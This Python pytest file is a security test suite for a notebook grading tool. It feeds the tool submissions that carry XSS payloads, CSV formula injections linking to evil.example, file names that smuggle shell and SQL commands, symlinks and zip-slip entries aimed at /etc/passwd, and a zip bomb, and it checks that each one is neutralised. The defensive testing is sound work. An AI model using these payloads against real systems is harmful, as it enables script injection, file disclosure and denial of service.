"""A class of which some attack the steps around the marking: names, links and ZIPs when it is collected, formulas in
the tables, programs in the pages. All in one course, so that it costs one run."""

import csv
import os
import re
import zipfile
from html.parser import HTMLParser

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from grading import demo, mark, status
from grading.release import generated, new_course
from grading.repair import is_answer
from grading.status import GRADED, UNGRADED
from grading.wall import sandbox
from tests.attack import run
from tests.grading.courses import PS2, without_views

SCRIPT = "<script>alert(1)</script>"
WORDS = f"""\
[a link](javascript:alert(1)) and [another](JaVaScRiPt&colon;alert(1)) <a href=" javascript:alert(1)">here</a> {SCRIPT}
<img src="https://evil.example/x.png" onerror="alert(1)"> <svg onload="alert(1)"><script>1</script></svg>
<iframe srcdoc="{SCRIPT}"></iframe> <meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/"><form action="https://evil.example"><button>Show the mark</button></form>
![a picture](https://evil.example/y.png) $\\href{{javascript:alert(1)}}{{x}}$ $\\require{{unicode}}\\style{{x:y}}{{z}}$
</body><body onload="alert(1)">
"""
FORMULAS = [sign + "HYPERLINK(\"https://evil.example/\"&A1)" for sign in (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u200b=", "\ufeff=", "\u00a0=", "\uff1d", "\t \t+", "'=",
)]  # fmt: skip
NAMES = [  # names of files that are handed in
    "=HYPERLINK(1)_ps2.ipynb", "..\u200b_ps2.ipynb", "e\u0301ve\u200b_ps2.ipynb", "\u202eipynb.eve_ps2.ipynb",
    "007_ps2.ipynb", "-rf_ps2.ipynb", "<script>_ps2.ipynb", "con.ipynb_ps2.ipynb", "$(reboot)_ps2.ipynb",
    "zo\u00eb'; DROP TABLE grade;--_ps2.IPYNB", "%2e%2e_ps2.ipynb", "lin\ne_ps2.ipynb",
]  # fmt: skip


def solved():
    source, release = run.notebooks(PS2)
    return without_views(demo.solve(release, source))


def with_answers(text, notebook=None):
    notebook = notebook or solved()
    for cell in filter(is_answer, notebook.cells):
        cell.source = text
    return notebook


def hostile_page():
    """A notebook that has a program in every place that a page may show."""
    notebook = with_answers(WORDS)
    notebook.metadata.update(title=SCRIPT, authors=[{"name": SCRIPT}])
    notebook.metadata["language_info"] = dict.fromkeys(("name", "version", "codemirror_mode"), SCRIPT)
    notebook.metadata["language_info"]["pygments_lexer"] = f"html'\">{SCRIPT}"
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {},
            "x": f"</script>{SCRIPT}",
        }
    }
    notebook.cells[1:1] = [
        new_markdown_cell(WORDS, metadata={"tags": [f'"><{SCRIPT}'], "slideshow": {"slide_type": SCRIPT}}),
        nbformat.v4.new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html", "format": "text/html"}),
        new_code_cell(f"print('''{WORDS}''')\n{WORDS!r}", metadata={"tags": ['x" onclick="alert(1)']}),
        new_code_cell(
            "print('\\x1b[31m\\x1b]8;;javascript:alert(1)\\x07link', '\\u202egnp.exe', '</pre>" + SCRIPT + "')"
        ),
        new_code_cell(f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})"),
        new_code_cell("1", outputs=[new_output("display_data", {"text/html": SCRIPT, "image/svg+xml": SCRIPT})]),
        new_markdown_cell(
            "![x](attachment:x.png)", attachments={"x.png": {"text/html": SCRIPT, "image/png": f'"><{SCRIPT}'}}
        ),
    ]
    return notebook


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """The class, collected and marked."""
    try:
        sandbox.check()
    except sandbox.NoWall as error:  # what they hand in would do what it says
        pytest.fail(str(error))
    folder = tmp_path_factory.mktemp("class")
    course = new_course(folder / "course")
    generated(course, PS2)
    mark.generate(course, PS2)
    downloads, secrets = folder / "downloads", folder / "secret.ipynb"
    downloads.mkdir()
    nbformat.write(solved(), secrets)
    nbformat.write(solved(), downloads / "ada_ps2.ipynb")
    nbformat.write(hostile_page(), downloads / "page_ps2.ipynb")
    for n, text in enumerate(FORMULAS):
        nbformat.write(
            with_answers(text, nbformat.from_dict(run.notebooks(PS2)[1])), downloads / f"formula{n}_ps2.ipynb"
        )
    for name in NAMES:
        (downloads / name).write_bytes(b"{")
    for n, target in enumerate(
        (secrets, course.source(PS2), "/etc/passwd", downloads / "ada_ps2.ipynb", folder / "none")
    ):
        os.symlink(target, downloads / f"link{n}_ps2.ipynb")
    os.symlink(folder / "course", downloads / "linked")
    with zipfile.ZipFile(downloads / "zip_ps2.zip", "w") as archive:
        for name in ("../../course/source/x.ipynb", "/x.ipynb", "..\\..\\x.ipynb", "a/../../b_1_assign/ps2.ipynb"):
            archive.writestr(name, "{}")
        link = zipfile.ZipInfo("link_1_x/ps2.ipynb")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    with (
        zipfile.ZipFile(downloads / "bomb_ps2.zip", "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("ps2.ipynb", "w", force_zip64=True) as file,
    ):
        for _ in range(300):
            file.write(bytes(2**20))
    (downloads / "broken_ps2.zip").write_bytes(b"PK\x03\x04" + bytes(500))
    before = kept(course)
    mark.collect(course, PS2, downloads)
    mark.autograde(course, PS2, ["ada", "page", *(f"formula{n}" for n in range(len(FORMULAS)))], run.LIMITS)
    assert kept(course) == before
    return course


def kept(course):
    return {path: path.read_bytes() for path in (course.source(PS2), course.release(PS2))}


def test_nobody_is_harmed_and_all_stand_in_the_tables(course):
    records = status.read(course.marks(PS2))
    assert records["ada"].tests == records["page"].tests == run.full(PS2)
    for name, record in records.items():
        assert record.state != GRADED or name == "ada", name
        assert re.fullmatch(r"[\w.-]+", name.replace("\u0301", "")) and name[0] not in "-.=+@", name
        assert "/etc" not in record.reason
    assert not [name for name in records if re.match(r"link\d", name)]
    assert all(records[name].state == UNGRADED for name in records if name not in ("ada", "page")
               and not name.startswith("formula"))  # fmt: skip


def test_what_is_collected_lies_in_the_course_and_is_no_link(course):
    inside = course.root.resolve()
    for path in inside.parent.rglob("*"):
        if "downloads" not in path.parts:
            assert not path.is_symlink() and path.resolve().is_relative_to(inside) or path.parent == inside.parent
    handed = [path for path in (course.marks(PS2)).rglob("*.ipynb")]
    assert handed and all(b"root:" not in path.read_bytes() for path in handed)


def test_no_field_of_a_table_is_a_formula(course):
    mark.answers(course, PS2)
    mark.marks(course, PS2)
    for path in course.marks(PS2).glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for field in row:
                    first = re.sub(r"^[\s\u200b\ufeff\0]+", "", field)
                    assert first[:1] not in "=+-@\uff1d\uff0b\uff0d\uff20" or not first, (path.name, field)


def test_no_program_is_in_a_page_and_nothing_is_fetched(course):
    path = mark.answers(course, PS2)
    rows = status.read_table(path)
    for row in rows:
        row["points"] = "0"
        row["comment"] = "read"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
    mark.manual(course, PS2)
    assert mark.feedback(course, PS2, ["page"])
    page = course.feedback("page", PS2).read_text(encoding="utf-8")
    assert page.index("Content-Security-Policy") < page.index("<style")
    found = Tags(page)
    assert found.tags.isdisjoint({"iframe", "base", "form", "object", "embed", "svg", "applet", "link"})
    assert not [
        name for name in found.attributes if name.startswith("on") or name in ("srcdoc", "srcset", "formaction")
    ]
    assert found.policies == ["Content-Security-Policy"] and "alert(1)" not in found.scripts
    # A link to a program does nothing: the policy forbids it, which test_grading.py tries in a browser.


class Tags(HTMLParser):
    """What stands in a page. policies: what a <meta> says in place of a server; scripts: the text of all programs."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.policies, self.scripts = set(), set(), [], ""
        self._in_script = False
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attributes}
        self.policies += [value for name, value in attributes if name == "http-equiv"]
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        self.scripts += data if self._in_script else ""
